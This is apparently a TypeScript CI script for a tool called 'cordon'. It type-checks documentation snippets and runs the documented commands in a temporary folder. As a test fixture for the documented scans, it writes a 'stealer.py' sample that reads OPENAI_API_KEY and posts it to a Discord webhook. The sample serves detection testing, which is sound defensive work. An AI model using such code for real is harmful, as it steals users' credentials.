/**
 * Checks what the documents show, so that it stays true. In README.md and docs/*.md:
 *
 * - Every ```ts block is a module of its own and is type-checked against the built package; one that is marked
 *   ```ts continued is appended to the `ts` block before it.
 * - Every ```console block is run, and what it prints compared. `$ ` starts a command, which `sh` runs; `cordon` is the
 *   built one. The lines below a command are its stdout and stderr, as `2>&1` gives them. What varies (digests, times,
 *   paths) is written `…`: within a line it stands for any text, alone on a line for any number of lines. Exit codes are
 *   not compared: show one with `; echo $?`.
 * - A ```yaml NAME block is a file of that name in the folder where the document's commands run.
 * - `make demo` runs as `cordon demo`. Other `make` targets, and `npm`, `npx` and `git`, are not run: they set things up,
 *   and .ci/run does that itself. A block marked ```console no-run is not run at all.
 *
 * The commands of one document run in one folder, in order, with an empty home. At the start it holds `calculator.wasm`
 * and `tool.wasm` (from examples/guests/), the bundled `demo-trusted.wasm` and `demo-malicious.wasm`, `demo.txt`, and
 * `stealer.py` and `harmless.py` to scan.
 */
import { chmod, cp, mkdir, mkdtemp, readFile, realpath, rm, writeFile } from "node:fs/promises";
import { existsSync, globSync } from "node:fs";
import { tmpdir } from "node:os";
import { delimiter, dirname, join } from "node:path";
import { EXAMPLE_GUESTS } from "./build-example-guests.ts";
import { capture, outputOf } from "./capture.ts";
import type { CheckList } from "./check-list.ts";
import { mismatch, shownCommands, type ShownCommand } from "./console-blocks.ts";
import { ROOT } from "./exec.ts";
import { type FencedBlock, fencedBlocks } from "./fenced-blocks.ts";

const SNIPPETS = join(ROOT, "build/doc-snippets");
const NOT_RUN = /^(?:make (?!demo\b)|npm |npx |git )/;

const TSCONFIG = {
  extends: "../../tsconfig.json",
  // `cordon` is what users get: the package's own exports, not the sources.
  compilerOptions: { paths: {}, noUnusedLocals: false, allowImportingTsExtensions: false },
  include: ["*.ts"],
};

const STEALER =
  'import os, requests\n\nkey = os.environ["OPENAI_API_KEY"]\nrequests.post("https://discord.com/api/webhooks/1/x", data=key)\n';
const HARMLESS = 'def greet(name):\n    return f"Hello, {name}!"\n';

/** Checks every snippet of README.md and docs/*.md. */
export async function checkDocuments(checks: CheckList): Promise<void> {
  const documents = ["README.md", ...globSync("docs/*.md", { cwd: ROOT }).sort()].filter((one) =>
    existsSync(join(ROOT, one)),
  );
  const blocks = new Map<string, readonly FencedBlock[]>();
  for (const document of documents) {
    blocks.set(document, fencedBlocks(document, await readFile(join(ROOT, document), "utf8")));
  }
  await checks.run("the documents' ts blocks compile", () => compileSnippets([...blocks.values()].flat()));
  const commandsOf = new Map<string, () => Promise<string>>();
  for (const [document, found] of blocks) {
    const commands = found
      .filter(({ info }) => info[0] === "console" && !info.includes("no-run"))
      .flatMap(shownCommands)
      .filter(({ command }) => !NOT_RUN.test(command));
    if (commands.length === 0) continue;
    const files = found.filter(({ info: [language, name] }) => language === "yaml" && name !== undefined);
    commandsOf.set(`the commands of ${document} print what it shows`, () => runCommands(commands, files));
  }
  await checks.runSideBySide(commandsOf);
}

/** Writes each snippet to the line it has in its document, so that the compiler's messages name that line. */
async function compileSnippets(blocks: readonly FencedBlock[]): Promise<string> {
  const files: { readonly name: string; lines: string[] }[] = [];
  for (const { document, line, info, lines } of blocks) {
    if (info[0] !== "ts") continue;
    const previous = files.at(-1);
    if (info.includes("continued")) {
      if (previous === undefined) throw new Error(`${document}:${line}: there is no ts block before this one`);
      previous.lines = [...padded(previous.lines, line), ...lines];
    } else {
      files.push({ name: `${document.replaceAll("/", "-")}-${line}.ts`, lines: [...padded([], line), ...lines] });
    }
  }
  await rm(SNIPPETS, { recursive: true, force: true });
  if (files.length === 0) return "there are none";
  await mkdir(SNIPPETS, { recursive: true });
  await writeFile(join(SNIPPETS, "tsconfig.json"), JSON.stringify(TSCONFIG));
  // Without an import, a file would be a script and share its names with the others.
  for (const { name, lines } of files) await writeFile(join(SNIPPETS, name), `${lines.join("\n")}\nexport {};\n`);
  await outputOf(join(ROOT, "node_modules/.bin/tsc"), ["-p", join(SNIPPETS, "tsconfig.json")]);
  return `${files.length} snippets`;
}

function padded(lines: readonly string[], line: number): readonly string[] {
  return [...lines, ...Array.from({ length: line - 1 - lines.length }, () => "")];
}

async function runCommands(commands: readonly ShownCommand[], files: readonly FencedBlock[]): Promise<string> {
  const { home, cwd, env } = await documentFolder();
  try {
    for (const { info, lines } of files) {
      await writeFile(join(cwd, info[1] ?? ""), `${lines.join("\n")}\n`, { mode: 0o644 });
    }
    const wrong: string[] = [];
    for (const { place, command, expected } of commands) {
      const { stdout } = await capture("sh", ["-c", `exec 2>&1\n${command}`], { cwd, env });
      const problem = mismatch(expected, stdout);
      if (problem !== undefined) wrong.push(`${place}: $ ${command}\n${problem}`);
    }
    if (wrong.length > 0) throw new Error(wrong.join("\n"));
    return `${commands.length} commands`;
  } finally {
    await rm(home, { recursive: true, force: true });
  }
}

/** Where the commands of a document run: a home that is to be removed, a folder in it with what they need, and an environment. */
export async function documentFolder(): Promise<{
  readonly home: string;
  readonly cwd: string;
  readonly env: NodeJS.ProcessEnv;
}> {
  const home = await realpath(await mkdtemp(join(tmpdir(), "cordon-docs-")));
  const cwd = join(home, "work");
  const bin = join(home, "bin");
  await mkdir(cwd);
  await mkdir(bin);
  await cp(EXAMPLE_GUESTS, cwd, { recursive: true });
  for (const skill of ["demo-trusted.wasm", "demo-malicious.wasm"]) {
    await cp(join(ROOT, "dist/assets/skills", skill), join(cwd, skill));
  }
  await cp(join(ROOT, "dist/assets/demo/demo.txt"), join(cwd, "demo.txt"));
  await writeFile(join(cwd, "stealer.py"), STEALER);
  await writeFile(join(cwd, "harmless.py"), HARMLESS);
  await shim(join(bin, "cordon"), `exec "${process.execPath}" "${join(ROOT, "dist/bin/cordon.js")}" "$@"`);
  await shim(join(bin, "make"), 'exec cordon "$@"');
  const path = [bin, dirname(process.execPath), process.env["PATH"] ?? ""].join(delimiter);
  return {
    home,
    cwd,
    env: { PATH: path, HOME: home, XDG_CACHE_HOME: join(ROOT, "build/example-cache"), LC_ALL: "C.UTF-8" },
  };
}

async function shim(path: string, command: string): Promise<void> {
  await writeFile(path, `#!/bin/sh\n${command}\n`);
  await chmod(path, 0o755);
}
